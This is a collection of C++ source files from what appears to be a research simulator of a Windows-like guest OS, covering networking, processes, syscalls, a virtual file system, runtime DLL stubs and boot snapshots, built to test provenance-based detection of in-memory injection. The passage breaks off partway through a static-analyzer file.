  Result<void> bind(SocketId sid, u16 port);
  /// Connects to a (simulated) remote endpoint; assigns an ephemeral local
  /// port deterministically. Returns the flow guest->remote.
  Result<FlowTuple> connect(SocketId sid, u32 ip, u16 port);
  Result<void> close(SocketId sid);

  /// Guest send on a connected socket. Appends to the outbound trace.
  /// A send addressed to the guest's own IP is delivered internally
  /// (loopback) to the socket listening on the destination port.
  /// The returned packet record carries the segment id.
  Result<OutboundPacket> send(SocketId sid, ByteSpan data, u64 instr_index);

  /// Bytes queued for reception on this socket.
  Result<u32> rx_available(SocketId sid) const;

  /// Reads up to out.size() bytes from the *front segment only*, so every
  /// recv corresponds to exactly one flow (keeps taint attribution exact).
  /// Returns bytes read (0 when the queue is empty) and fills `flow_out`,
  /// and optionally the segment id + offset of the first byte within the
  /// original segment payload (for packet-shadow lookups).
  Result<u32> read_rx(SocketId sid, MutByteSpan out, FlowTuple* flow_out,
                      u64* segment_id = nullptr, u32* segment_off = nullptr);

  /// Host-side delivery of an inbound packet. Finds the destination socket:
  /// a connected socket whose flow matches, else a socket bound to
  /// flow.dst_port. Returns false when nothing is listening.
  bool deliver(const FlowTuple& flow, ByteSpan data);

  bool socket_exists(SocketId sid) const { return sockets_.count(sid) != 0; }
  std::optional<u32> socket_owner(SocketId sid) const;

  const std::vector<OutboundPacket>& outbound() const { return outbound_; }

  /// Drops all sockets owned by a terminating process.
  void close_all_for(u32 owner_pid);

 private:
  enum class State { kOpen, kBound, kConnected };
  struct Socket {
    u32 owner_pid = 0;
    State state = State::kOpen;
    u16 local_port = 0;
    u32 remote_ip = 0;
    u16 remote_port = 0;
    std::deque<Segment> rx;
  };

  Socket* find(SocketId sid);
  const Socket* find(SocketId sid) const;

  u32 guest_ip_;
  std::map<SocketId, Socket> sockets_;
  SocketId next_id_ = 1;
  u16 next_ephemeral_ = 49162;  // matches the paper's Table II flows
  u64 next_segment_ = 1;
  std::vector<OutboundPacket> outbound_;
};

}  // namespace faros::os
