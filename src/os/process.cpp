#include "os/process.h"

namespace faros::os {

const char* proc_state_name(ProcState s) {
  switch (s) {
    case ProcState::kReady: return "ready";
    case ProcState::kBlocked: return "blocked";
    case ProcState::kSuspended: return "suspended";
    case ProcState::kTerminated: return "terminated";
  }
  return "?";
}

const char* region_kind_name(Region::Kind k) {
  switch (k) {
    case Region::Kind::kImage: return "image";
    case Region::Kind::kStack: return "stack";
    case Region::Kind::kHeap: return "heap";
    case Region::Kind::kAlloc: return "private";
  }
  return "?";
}

}  // namespace faros::os
