// Kernel process objects: address space, CPU context, handle table, memory
// region list (the VAD-tree analogue the malfind baseline inspects), and
// blocking state.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "common/types.h"
#include "introspection/monitor.h"
#include "vm/cpu.h"
#include "vm/mmu.h"

namespace faros::os {

using Pid = osi::Pid;

enum class ProcState {
  kReady,
  kBlocked,     // waiting on recv/device/process-exit
  kSuspended,   // created suspended or NtSuspendProcess'd
  kTerminated,
};

const char* proc_state_name(ProcState s);

/// What a blocked process is waiting for. The pending buffer describes the
/// in-flight syscall that the kernel completes on wake-up.
struct PendingWait {
  enum class Kind { kNone, kRecv, kDevice, kProcExit };
  Kind kind = Kind::kNone;
  u32 id = 0;       // socket handle / device id / pid
  VAddr buf = 0;
  u32 len = 0;
};

/// Memory region bookkeeping (Windows VAD analogue). The CuckooBox/malfind
/// baseline walks this plus the page tables to find suspicious regions.
struct Region {
  enum class Kind { kImage, kStack, kHeap, kAlloc };
  Kind kind = Kind::kAlloc;
  VAddr base = 0;
  u32 len = 0;
  u32 prot = 0;          // SysProt bits
  std::string tag;       // image path for kImage
};

const char* region_kind_name(Region::Kind k);

struct Handle {
  enum class Kind { kFile, kSocket };
  Kind kind = Kind::kFile;
  std::string path;  // files
  u32 sock_id = 0;   // sockets
  u32 pos = 0;       // file cursor
};

struct Process {
  Pid pid = 0;
  Pid parent = 0;
  std::string name;        // "notepad.exe"
  std::string image_path;  // VFS path it was loaded from
  vm::AddressSpace as;
  vm::CpuState cpu;
  ProcState state = ProcState::kReady;
  u32 exit_code = 0;
  PendingWait wait;
  std::map<u32, Handle> handles;
  u32 next_handle = 4;
  VAddr alloc_cursor = 0;  // bump allocator for NtAllocateVirtualMemory
  std::vector<Region> regions;
  std::vector<std::string> debug_output;  // NtDebugPrint lines
  u64 instr_retired = 0;  // per-process CPU accounting

  osi::ProcessInfo info() const {
    return osi::ProcessInfo{pid, parent, as.cr3(), name};
  }

  Region* region_containing(VAddr va) {
    for (auto& r : regions) {
      if (va >= r.base && va < r.base + r.len) return &r;
    }
    return nullptr;
  }

  bool alive() const { return state != ProcState::kTerminated; }
};

}  // namespace faros::os
