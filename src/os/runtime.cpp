#include "os/runtime.h"

#include "os/syscalls.h"
#include "vm/assembler.h"

namespace faros::os {

using vm::Assembler;
using vm::Reg;

namespace {

/// Emits `movi r0, <num>; syscall; ret` — a thin ntdll syscall stub.
void emit_syscall_stub(Assembler& a, const std::string& label, Sys num) {
  a.label(label);
  a.movi(Reg::R0, static_cast<u32>(num));
  a.syscall_();
  a.ret();
}

}  // namespace

Result<Image> build_ntdll() {
  ImageBuilder ib(sym::kNtdll, KernelLayout::kNtdllBase);
  Assembler& a = ib.asm_();

  // --- RtlGetProcAddress(r1 = module name hash, r2 = symbol hash) -> r0.
  // Walks the module directory, then the matching module's export table,
  // with plain LD32 instructions. The final load that fetches the function
  // pointer reads export-table-tagged bytes.
  a.label("RtlGetProcAddress");
  a.movi(Reg::R3, KernelLayout::kModuleDir);
  a.ld32(Reg::R4, Reg::R3, 0);  // module count
  a.movi(Reg::R5, 0);           // module index
  a.label("gpa_mod_loop");
  a.cmp(Reg::R5, Reg::R4);
  a.bgeu("gpa_not_found");
  a.muli(Reg::R6, Reg::R5, KernelLayout::kModuleDirEntrySize);
  a.add(Reg::R6, Reg::R6, Reg::R3);
  a.addi(Reg::R6, Reg::R6, 4);  // &entry[i]
  a.ld32(Reg::R7, Reg::R6, 0);  // entry.name_hash
  a.cmp(Reg::R7, Reg::R1);
  a.bne("gpa_next_mod");
  a.ld32(Reg::R8, Reg::R6, 8);  // entry.exports_va
  a.ld32(Reg::R9, Reg::R8, 0);  // export count
  a.movi(Reg::R10, 0);          // export index
  a.label("gpa_exp_loop");
  a.cmp(Reg::R10, Reg::R9);
  a.bgeu("gpa_not_found");
  a.muli(Reg::R11, Reg::R10, 8);
  a.add(Reg::R11, Reg::R11, Reg::R8);
  a.addi(Reg::R11, Reg::R11, 4);  // &export[j]
  a.ld32(Reg::R12, Reg::R11, 0);  // export.hash
  a.cmp(Reg::R12, Reg::R2);
  a.bne("gpa_next_exp");
  a.ld32(Reg::R0, Reg::R11, 4);  // export.addr — the tagged fn pointer
  a.ret();
  a.label("gpa_next_exp");
  a.addi(Reg::R10, Reg::R10, 1);
  a.jmp("gpa_exp_loop");
  a.label("gpa_next_mod");
  a.addi(Reg::R5, Reg::R5, 1);
  a.jmp("gpa_mod_loop");
  a.label("gpa_not_found");
  a.movi(Reg::R0, 0);
  a.ret();

  // --- RtlMemcpy(r1 = dst, r2 = src, r3 = len): byte copy.
  a.label("RtlMemcpy");
  a.movi(Reg::R4, 0);
  a.label("memcpy_loop");
  a.cmp(Reg::R4, Reg::R3);
  a.bgeu("memcpy_done");
  a.add(Reg::R5, Reg::R2, Reg::R4);
  a.ld8(Reg::R6, Reg::R5, 0);
  a.add(Reg::R5, Reg::R1, Reg::R4);
  a.st8(Reg::R5, 0, Reg::R6);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp("memcpy_loop");
  a.label("memcpy_done");
  a.mov(Reg::R0, Reg::R1);
  a.ret();

  // --- RtlMemset(r1 = dst, r2 = value, r3 = len).
  a.label("RtlMemset");
  a.movi(Reg::R4, 0);
  a.label("memset_loop");
  a.cmp(Reg::R4, Reg::R3);
  a.bgeu("memset_done");
  a.add(Reg::R5, Reg::R1, Reg::R4);
  a.st8(Reg::R5, 0, Reg::R2);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp("memset_loop");
  a.label("memset_done");
  a.mov(Reg::R0, Reg::R1);
  a.ret();

  // --- syscall stubs (args already in r1..r4 per the kernel ABI).
  emit_syscall_stub(a, "stub_alloc", Sys::kNtAllocateVirtualMemory);
  emit_syscall_stub(a, "stub_writevm", Sys::kNtWriteVirtualMemory);
  emit_syscall_stub(a, "stub_dbgprint", Sys::kNtDebugPrint);
  emit_syscall_stub(a, "stub_recv", Sys::kNtRecv);
  emit_syscall_stub(a, "stub_send", Sys::kNtSend);

  // The module has no classic entry point; use the first function.
  ib.set_entry("RtlGetProcAddress");

  ib.export_symbol(sym::kGetProcAddress, "RtlGetProcAddress");
  ib.export_symbol(sym::kMemcpy, "RtlMemcpy");
  ib.export_symbol(sym::kMemset, "RtlMemset");
  ib.export_symbol(sym::kAllocStub, "stub_alloc");
  ib.export_symbol(sym::kWriteVmStub, "stub_writevm");
  ib.export_symbol(sym::kDebugPrintStub, "stub_dbgprint");
  ib.export_symbol(sym::kRecvStub, "stub_recv");
  ib.export_symbol(sym::kSendStub, "stub_send");
  return ib.build();
}

Result<Image> build_kernel32() {
  ImageBuilder ib(sym::kKernel32, KernelLayout::kKernel32Base);
  Assembler& a = ib.asm_();

  // --- WinExec(r1 = path ptr) -> pid: spawn, not suspended.
  a.label("WinExec");
  a.movi(Reg::R2, 0);
  a.movi(Reg::R0, static_cast<u32>(Sys::kNtCreateProcess));
  a.syscall_();
  a.ret();

  // --- CreateFileA(r1 = path ptr) -> handle.
  emit_syscall_stub(a, "CreateFileA", Sys::kNtCreateFile);
  // --- ReadFile / WriteFile (r1 = h, r2 = buf, r3 = len) -> n.
  emit_syscall_stub(a, "ReadFile", Sys::kNtReadFile);
  emit_syscall_stub(a, "WriteFile", Sys::kNtWriteFile);

  // --- VirtualAlloc(r1 = len, r2 = prot) -> va: Win32 argument order is
  // reshuffled into the NT ABI (r1 = pid/self, r2 = len, r3 = prot).
  a.label("VirtualAlloc");
  a.mov(Reg::R3, Reg::R2);
  a.mov(Reg::R2, Reg::R1);
  a.movi(Reg::R1, 0);
  a.movi(Reg::R0, static_cast<u32>(Sys::kNtAllocateVirtualMemory));
  a.syscall_();
  a.ret();

  // --- LoadLibraryA(r1 = name ptr) -> module base.
  emit_syscall_stub(a, "LoadLibraryA", Sys::kNtLoadLibrary);

  // --- GetProcAddress(r1 = module hash, r2 = symbol hash) -> addr:
  // tail-calls ntdll!RtlGetProcAddress (which sits at the module base).
  a.label("GetProcAddress");
  a.movi(Reg::R5, KernelLayout::kNtdllBase);
  a.jr(Reg::R5);

  // --- GetTickCount() -> instruction-count ticks.
  emit_syscall_stub(a, "GetTickCount", Sys::kNtGetTick);

  // --- Sleep(r1 = rounds): yields r1 times.
  a.label("Sleep");
  a.mov(Reg::R4, Reg::R1);
  a.label("sleep_loop");
  a.cmpi(Reg::R4, 0);
  a.beq("sleep_done");
  a.movi(Reg::R0, static_cast<u32>(Sys::kNtYield));
  a.syscall_();
  a.subi(Reg::R4, Reg::R4, 1);
  a.jmp("sleep_loop");
  a.label("sleep_done");
  a.ret();

  ib.set_entry("WinExec");
  ib.export_symbol(sym::kWinExec, "WinExec");
  ib.export_symbol(sym::kCreateFileA, "CreateFileA");
  ib.export_symbol(sym::kReadFile, "ReadFile");
  ib.export_symbol(sym::kWriteFile, "WriteFile");
  ib.export_symbol(sym::kVirtualAlloc, "VirtualAlloc");
  ib.export_symbol(sym::kLoadLibraryA, "LoadLibraryA");
  ib.export_symbol(sym::kGetProcAddressK32, "GetProcAddress");
  ib.export_symbol(sym::kGetTickCount, "GetTickCount");
  ib.export_symbol(sym::kSleep, "Sleep");
  return ib.build();
}

Result<Image> build_user32() {
  ImageBuilder ib(sym::kUser32, KernelLayout::kUser32Base);
  Assembler& a = ib.asm_();

  // --- MessageBoxA(r1 = text ptr, r2 = len): shows a "pop-up" by routing
  // to NtDebugPrint. Reflective payloads resolve and call this to signal a
  // successful injection, mirroring the paper's Metasploit experiment.
  a.label("MessageBoxA");
  a.movi(Reg::R0, static_cast<u32>(Sys::kNtDebugPrint));
  a.syscall_();
  a.ret();

  ib.set_entry("MessageBoxA");
  ib.export_symbol(sym::kMessageBox, "MessageBoxA");
  return ib.build();
}

}  // namespace faros::os
