// Guest runtime modules ("ntdll.dll", "user32.dll") built at boot and mapped
// into the shared kernel half of every address space, each with a
// guest-memory export table the loader materialises.
//
// RtlGetProcAddress is the load-bearing piece: it resolves a symbol by
// walking the module directory and export tables with ordinary guest LD32
// instructions — the exact access pattern FAROS' export-table invariant
// keys on. Reflectively injected payloads call it (or inline the same walk)
// to link themselves, just as real reflective DLLs parse the host process'
// export tables.
#pragma once

#include "common/hash.h"
#include "os/image.h"

namespace faros::os {

/// Fixed kernel-half layout (see DESIGN.md).
struct KernelLayout {
  static constexpr VAddr kModuleDir = 0xC0002000;
  static constexpr u32 kModuleDirEntrySize = 16;  // hash, base, exports, count
  static constexpr VAddr kNtdllBase = 0xC0100000;
  static constexpr VAddr kUser32Base = 0xC0200000;
  static constexpr VAddr kKernel32Base = 0xC0300000;
  static constexpr VAddr kKernelTablesEnd = 0xC1000000;  // pre-built PDEs
};

/// Well-known symbol names (hash with fnv1a32 to match export tables).
namespace sym {
inline constexpr const char* kNtdll = "ntdll.dll";
inline constexpr const char* kUser32 = "user32.dll";
inline constexpr const char* kGetProcAddress = "RtlGetProcAddress";
inline constexpr const char* kMemcpy = "RtlMemcpy";
inline constexpr const char* kMemset = "RtlMemset";
inline constexpr const char* kAllocStub = "NtAllocateVirtualMemory";
inline constexpr const char* kWriteVmStub = "NtWriteVirtualMemory";
inline constexpr const char* kDebugPrintStub = "NtDebugPrint";
inline constexpr const char* kRecvStub = "NtRecv";
inline constexpr const char* kSendStub = "NtSend";
inline constexpr const char* kMessageBox = "MessageBoxA";
inline constexpr const char* kKernel32 = "kernel32.dll";
inline constexpr const char* kWinExec = "WinExec";
inline constexpr const char* kCreateFileA = "CreateFileA";
inline constexpr const char* kReadFile = "ReadFile";
inline constexpr const char* kWriteFile = "WriteFile";
inline constexpr const char* kVirtualAlloc = "VirtualAlloc";
inline constexpr const char* kLoadLibraryA = "LoadLibraryA";
inline constexpr const char* kGetProcAddressK32 = "GetProcAddress";
inline constexpr const char* kGetTickCount = "GetTickCount";
inline constexpr const char* kSleep = "Sleep";
}  // namespace sym

/// Builds the ntdll.dll image (assembled for KernelLayout::kNtdllBase).
Result<Image> build_ntdll();

/// Builds the user32.dll image (assembled for KernelLayout::kUser32Base).
Result<Image> build_user32();

/// Builds the kernel32.dll image: Win32-style wrappers over the NT syscall
/// layer (argument reshuffling, tail-call to ntdll for GetProcAddress) —
/// the API surface real reflective loaders resolve.
Result<Image> build_kernel32();

}  // namespace faros::os
