#include "os/snapshot.h"

#include "os/kernel.h"

namespace faros::os {

Result<SnapshotPtr> capture_snapshot(const KernelConfig& cfg) {
  KernelConfig base = cfg;
  base.snapshot = nullptr;
  Kernel k(base);
  if (auto b = k.boot(); !b.ok()) {
    return Err<SnapshotPtr>("snapshot boot: " + b.error().message);
  }
  auto s = std::make_shared<Snapshot>();
  s->ram = k.phys_mem().freeze();
  s->frames = k.frame_alloc().state();
  s->kernel_cr3 = k.kernel_as().cr3();
  s->modules = k.modules();
  s->ram_bytes = base.ram_bytes;
  s->guest_ip = base.guest_ip;
  s->rng_seed = base.rng_seed;
  return SnapshotPtr(std::move(s));
}

}  // namespace faros::os
