// Booted-guest snapshots: freeze a freshly booted WinSim image once and
// clone it per farm job instead of re-running boot.
//
// Boot is the expensive, job-invariant prefix of every run — allocating and
// zeroing 64 MiB of guest RAM, pre-creating the kernel page tables, and
// assembling + loading the runtime modules (ntdll/user32/kernel32). A
// Snapshot captures everything that prefix produced: the physical-memory
// image (frozen as an immutable vm::MemImage), the frame-allocator state,
// the kernel address-space root (CR3 — the tables themselves live inside
// the RAM image), and the module registry. Kernel::boot() with
// KernelConfig::snapshot set restores that state instead of rebuilding it;
// the clone's PhysMem runs copy-on-write over the shared image, so the
// per-job cost is a handful of pointer tables, not 64 MiB of zeroing.
//
// Determinism contract: boot executes no guest instructions and the only
// monitor events it publishes are one on_module_loaded per runtime module,
// in load order. boot-from-snapshot re-publishes exactly that sequence, so
// an engine attached before boot() (the farm's replay setup) reconstructs
// the identical shadow/provenance base state — export-table tags and all —
// and every downstream verdict is byte-identical to a cold boot. The CI
// snapshot-equivalence gate pins this over the full corpus.
#pragma once

#include <memory>
#include <vector>

#include "common/result.h"
#include "introspection/monitor.h"
#include "vm/phys_mem.h"

namespace faros::os {

struct KernelConfig;

/// Immutable image of a booted kernel. Held by shared_ptr: the farm
/// captures one per run and every clone keeps it alive for as long as its
/// COW PhysMem references shared frames.
struct Snapshot {
  std::shared_ptr<const vm::MemImage> ram;
  vm::FrameAllocator::State frames;
  PAddr kernel_cr3 = 0;
  std::vector<osi::ModuleInfo> modules;
  // Config the image was built from; boot-from-snapshot refuses a clone
  // whose config diverges (the image would silently not match).
  u32 ram_bytes = 0;
  u32 guest_ip = 0;
  u64 rng_seed = 0;
};

using SnapshotPtr = std::shared_ptr<const Snapshot>;

/// Boots a fresh kernel from `cfg` (any cfg.snapshot is ignored) and
/// freezes its post-boot state. The booted kernel is discarded; only the
/// frozen image survives.
Result<SnapshotPtr> capture_snapshot(const KernelConfig& cfg);

}  // namespace faros::os
