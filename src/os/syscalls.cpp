#include "os/syscalls.h"

namespace faros::os {

const char* syscall_name(u32 number) {
  switch (static_cast<Sys>(number)) {
    case Sys::kNtCreateFile: return "NtCreateFile";
    case Sys::kNtOpenFile: return "NtOpenFile";
    case Sys::kNtReadFile: return "NtReadFile";
    case Sys::kNtWriteFile: return "NtWriteFile";
    case Sys::kNtCloseHandle: return "NtCloseHandle";
    case Sys::kNtDeleteFile: return "NtDeleteFile";
    case Sys::kNtSeekFile: return "NtSeekFile";
    case Sys::kNtQueryFileSize: return "NtQueryFileSize";
    case Sys::kNtRenameFile: return "NtRenameFile";
    case Sys::kNtTruncateFile: return "NtTruncateFile";
    case Sys::kNtFlushFile: return "NtFlushFile";
    case Sys::kNtQueryFileVersion: return "NtQueryFileVersion";
    case Sys::kNtReadFileAt: return "NtReadFileAt";
    case Sys::kNtWriteFileAt: return "NtWriteFileAt";
    case Sys::kNtQueryFileExists: return "NtQueryFileExists";
    case Sys::kNtAllocateVirtualMemory: return "NtAllocateVirtualMemory";
    case Sys::kNtProtectVirtualMemory: return "NtProtectVirtualMemory";
    case Sys::kNtFreeVirtualMemory: return "NtFreeVirtualMemory";
    case Sys::kNtReadVirtualMemory: return "NtReadVirtualMemory";
    case Sys::kNtWriteVirtualMemory: return "NtWriteVirtualMemory";
    case Sys::kNtUnmapViewOfSection: return "NtUnmapViewOfSection";
    case Sys::kNtCreateProcess: return "NtCreateProcess";
    case Sys::kNtSuspendProcess: return "NtSuspendProcess";
    case Sys::kNtResumeProcess: return "NtResumeProcess";
    case Sys::kNtTerminateProcess: return "NtTerminateProcess";
    case Sys::kNtSetEntryPoint: return "NtSetEntryPoint";
    case Sys::kNtGetCurrentPid: return "NtGetCurrentPid";
    case Sys::kNtWaitProcess: return "NtWaitProcess";
    case Sys::kNtOpenProcessByName: return "NtOpenProcessByName";
    case Sys::kNtQueryProcessList: return "NtQueryProcessList";
    case Sys::kNtResolveHost: return "NtResolveHost";
    case Sys::kNtSocket: return "NtSocket";
    case Sys::kNtConnect: return "NtConnect";
    case Sys::kNtBind: return "NtBind";
    case Sys::kNtSend: return "NtSend";
    case Sys::kNtRecv: return "NtRecv";
    case Sys::kNtPollRecv: return "NtPollRecv";
    case Sys::kNtReadDevice: return "NtReadDevice";
    case Sys::kNtDebugPrint: return "NtDebugPrint";
    case Sys::kNtGetTick: return "NtGetTick";
    case Sys::kNtYield: return "NtYield";
    case Sys::kNtGetRandom: return "NtGetRandom";
    case Sys::kNtExit: return "NtExit";
    case Sys::kNtGetModuleDirectory: return "NtGetModuleDirectory";
    case Sys::kNtLoadLibrary: return "NtLoadLibrary";
    case Sys::kNtAddAtom: return "NtAddAtom";
    case Sys::kNtGetAtom: return "NtGetAtom";
  }
  return "NtUnknown";
}

}  // namespace faros::os
