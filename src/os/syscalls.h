// WinSim syscall numbers and ABI.
//
// ABI: service number in r0, arguments in r1..r4, primary result in r0
// (kNtError = 0xffffffff signals failure), secondary result in r1.
// Pointer arguments are guest virtual addresses in the calling process.
//
// The file-system group deliberately mirrors the paper's observation that
// FAROS hooks "26 filesystem-related system calls" — the semantic file
// events FAROS needs (which bytes moved between guest memory and which
// file) are emitted from these handlers.
#pragma once

#include "common/types.h"

namespace faros::os {

inline constexpr u32 kNtError = 0xffffffffu;

enum class Sys : u32 {
  // --- file system ---
  kNtCreateFile = 1,      // r1=path ptr -> handle
  kNtOpenFile = 2,        // r1=path ptr -> handle
  kNtReadFile = 3,        // r1=h, r2=buf, r3=len -> n
  kNtWriteFile = 4,       // r1=h, r2=buf, r3=len -> n
  kNtCloseHandle = 5,     // r1=h
  kNtDeleteFile = 6,      // r1=path ptr
  kNtSeekFile = 7,        // r1=h, r2=offset
  kNtQueryFileSize = 8,   // r1=h -> size
  kNtRenameFile = 9,      // r1=old path ptr, r2=new path ptr
  kNtTruncateFile = 10,   // r1=h, r2=size
  kNtFlushFile = 11,      // r1=h (no-op)
  kNtQueryFileVersion = 12,  // r1=h -> access version
  kNtReadFileAt = 13,     // r1=h, r2=off, r3=buf, r4=len -> n
  kNtWriteFileAt = 14,    // r1=h, r2=off, r3=buf, r4=len -> n
  kNtQueryFileExists = 15,  // r1=path ptr -> 1/0

  // --- virtual memory ---
  kNtAllocateVirtualMemory = 20,  // r1=pid(0=self), r2=len, r3=prot -> va
  kNtProtectVirtualMemory = 21,   // r1=pid, r2=va, r3=len, r4=prot
  kNtFreeVirtualMemory = 22,      // r1=pid, r2=va, r3=len
  kNtReadVirtualMemory = 23,      // r1=pid, r2=remote va, r3=local buf, r4=len
  kNtWriteVirtualMemory = 24,     // r1=pid, r2=remote va, r3=local buf, r4=len
  kNtUnmapViewOfSection = 25,     // r1=pid, r2=va inside the image region

  // --- processes ---
  kNtCreateProcess = 30,       // r1=path ptr, r2=flags (1=suspended) -> pid
  kNtSuspendProcess = 31,      // r1=pid
  kNtResumeProcess = 32,       // r1=pid
  kNtTerminateProcess = 33,    // r1=pid, r2=exit code
  kNtSetEntryPoint = 34,       // r1=pid, r2=va (SetThreadContext analogue)
  kNtGetCurrentPid = 35,       // -> pid
  kNtWaitProcess = 36,         // r1=pid -> exit code (blocks)
  kNtOpenProcessByName = 37,   // r1=name ptr -> pid
  kNtQueryProcessList = 38,    // r1=buf (u32 array), r2=max entries -> count

  // --- network ---
  kNtSocket = 40,    // -> handle
  kNtConnect = 41,   // r1=h, r2=ip, r3=port
  kNtBind = 42,      // r1=h, r2=port
  kNtSend = 43,      // r1=h, r2=buf, r3=len -> n
  kNtRecv = 44,      // r1=h, r2=buf, r3=len -> n (blocks when empty)
  kNtPollRecv = 45,  // r1=h -> bytes available
  kNtResolveHost = 46,  // r1=hostname ptr -> IPv4 (deterministic)

  // --- devices & misc ---
  kNtReadDevice = 50,   // r1=dev id, r2=buf, r3=len -> n (blocks)
  kNtDebugPrint = 51,   // r1=buf, r2=len
  kNtGetTick = 52,      // -> low 32 bits of the instruction counter
  kNtYield = 53,
  kNtGetRandom = 54,    // r1=buf, r2=len (deterministic boot-seeded PRNG)
  kNtExit = 55,         // r1=exit code (terminates self)
  kNtGetModuleDirectory = 56,  // -> va of the kernel module directory
  kNtLoadLibrary = 57,  // r1=name ptr -> module base (must be preloaded)

  // --- global atom table (the atom-bombing IPC channel) ---
  kNtAddAtom = 58,   // r1=buf, r2=len -> atom id
  kNtGetAtom = 59,   // r1=atom id, r2=buf, r3=cap -> len
};

/// Device ids for NtReadDevice.
enum class DeviceId : u32 {
  kKeyboard = 1,
  kMicrophone = 2,
  kScreen = 3,
};

const char* syscall_name(u32 number);

/// Memory protection bits for the VM syscalls (translated to PTE flags).
enum SysProt : u32 {
  kProtRead = 1,
  kProtWrite = 2,
  kProtExec = 4,
};

}  // namespace faros::os
