#include "os/vfs.h"

#include <algorithm>

namespace faros::os {

Vfs::File* Vfs::find(const std::string& path) {
  auto it = files_.find(path);
  return it == files_.end() ? nullptr : &it->second;
}

const Vfs::File* Vfs::find(const std::string& path) const {
  auto it = files_.find(path);
  return it == files_.end() ? nullptr : &it->second;
}

u32 Vfs::create(const std::string& path, Bytes contents) {
  File* f = find(path);
  if (f) {
    f->data = std::move(contents);
    ++f->version;
    return f->id;
  }
  u32 id = next_id_++;
  files_[path] = File{id, std::move(contents), 0};
  return id;
}

bool Vfs::exists(const std::string& path) const { return find(path) != nullptr; }

Result<FileStat> Vfs::stat(const std::string& path) const {
  const File* f = find(path);
  if (!f) return Err<FileStat>("vfs: no such file '" + path + "'");
  return FileStat{f->id, static_cast<u32>(f->data.size()), f->version};
}

Result<u32> Vfs::touch(const std::string& path) {
  File* f = find(path);
  if (!f) return Err<u32>("vfs: no such file '" + path + "'");
  return ++f->version;
}

Result<u32> Vfs::read_at(const std::string& path, u32 offset,
                         MutByteSpan out) const {
  const File* f = find(path);
  if (!f) return Err<u32>("vfs: no such file '" + path + "'");
  if (offset >= f->data.size()) return 0u;
  u32 n = std::min<u32>(static_cast<u32>(out.size()),
                        static_cast<u32>(f->data.size()) - offset);
  std::copy_n(f->data.begin() + offset, n, out.begin());
  return n;
}

Result<void> Vfs::write_at(const std::string& path, u32 offset,
                           ByteSpan data) {
  File* f = find(path);
  if (!f) return Err<void>("vfs: no such file '" + path + "'");
  if (offset + data.size() > f->data.size()) {
    f->data.resize(offset + data.size(), 0);
  }
  std::copy(data.begin(), data.end(), f->data.begin() + offset);
  return Ok();
}

Result<void> Vfs::append(const std::string& path, ByteSpan data) {
  File* f = find(path);
  if (!f) return Err<void>("vfs: no such file '" + path + "'");
  f->data.insert(f->data.end(), data.begin(), data.end());
  return Ok();
}

Result<void> Vfs::truncate(const std::string& path, u32 new_size) {
  File* f = find(path);
  if (!f) return Err<void>("vfs: no such file '" + path + "'");
  f->data.resize(new_size, 0);
  return Ok();
}

Result<void> Vfs::remove(const std::string& path) {
  if (files_.erase(path) == 0) {
    return Err<void>("vfs: no such file '" + path + "'");
  }
  return Ok();
}

Result<void> Vfs::rename(const std::string& from, const std::string& to) {
  auto it = files_.find(from);
  if (it == files_.end()) return Err<void>("vfs: no such file '" + from + "'");
  File f = std::move(it->second);
  files_.erase(it);
  ++f.version;
  files_[to] = std::move(f);
  return Ok();
}

Result<Bytes> Vfs::read_all(const std::string& path) const {
  const File* f = find(path);
  if (!f) return Err<Bytes>("vfs: no such file '" + path + "'");
  return f->data;
}

std::vector<std::string> Vfs::list() const {
  std::vector<std::string> out;
  out.reserve(files_.size());
  for (const auto& [path, f] : files_) out.push_back(path);
  return out;
}

std::optional<std::string> Vfs::path_for_id(u32 file_id) const {
  for (const auto& [path, f] : files_) {
    if (f.id == file_id) return path;
  }
  return std::nullopt;
}

}  // namespace faros::os
