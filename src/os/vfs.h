// In-memory virtual file system for the guest. Paths are Windows-flavoured
// strings ("C:/Windows/System32/svchost.exe"). Every file carries a stable
// id (used to key FAROS' file shadow provenance) and an access version
// counter (the paper's file-tag "version: how many times a file has been
// accessed").
#pragma once

#include <map>
#include <optional>
#include <string>
#include <vector>

#include "common/result.h"
#include "common/types.h"

namespace faros::os {

struct FileStat {
  u32 file_id = 0;
  u32 size = 0;
  u32 version = 0;
};

class Vfs {
 public:
  /// Creates (or truncates) a file. Returns its id.
  u32 create(const std::string& path, Bytes contents = {});

  bool exists(const std::string& path) const;
  Result<FileStat> stat(const std::string& path) const;

  /// Bumps the access version (called on open). Returns the new version.
  Result<u32> touch(const std::string& path);

  Result<u32> read_at(const std::string& path, u32 offset,
                      MutByteSpan out) const;
  /// Extends the file when writing past EOF.
  Result<void> write_at(const std::string& path, u32 offset, ByteSpan data);
  Result<void> append(const std::string& path, ByteSpan data);
  Result<void> truncate(const std::string& path, u32 new_size);
  Result<void> remove(const std::string& path);
  Result<void> rename(const std::string& from, const std::string& to);

  /// Whole-file read (host-side convenience for the loader).
  Result<Bytes> read_all(const std::string& path) const;

  std::vector<std::string> list() const;
  std::optional<std::string> path_for_id(u32 file_id) const;

  size_t file_count() const { return files_.size(); }

 private:
  struct File {
    u32 id;
    Bytes data;
    u32 version = 0;
  };

  File* find(const std::string& path);
  const File* find(const std::string& path) const;

  std::map<std::string, File> files_;
  u32 next_id_ = 1;
};

}  // namespace faros::os
