#include "sa/analyzer.h"

#include <algorithm>

#include "common/json.h"
#include "os/syscalls.h"
#include "vm/phys_mem.h"

namespace faros::sa {

namespace {

/// True when `insn` under pre-state `st` can neither move taint nor trap:
/// plainly taint_inert, or a kDivu whose divisor is a proven non-zero
/// constant (the one reason kDivu is excluded from taint_inert).
bool inert_under(const vm::Instruction& insn, const RegState& st) {
  if (vm::taint_inert(insn.op)) return true;
  if (insn.op != vm::Opcode::kDivu) return false;
  const AbsVal& d = st.regs[insn.rs2];
  return d.kind == ValKind::kConst && d.c != 0;
}

/// Reconstructs the exact instruction run the block-translation cache
/// would decode starting at `va` (vm/btcache.h translate(): stop at the
/// first block-ending opcode, the page boundary, or an undecodable slot)
/// and proves it elidable from the all-kVaries entry state — i.e. for any
/// runtime entry. Appends a hint only when the proof needed more than the
/// per-opcode inert bit (some proven kDivu), since plainly inert runs are
/// already elided by the block cache's own flag.
void prove_run(const os::Image& img, u32 va, std::vector<ElideHint>& out) {
  std::vector<vm::Instruction> run;
  const u32 page_end = vm::page_floor(va) + vm::kPageSize;
  const u32 img_end = img.base_va + static_cast<u32>(img.blob.size());
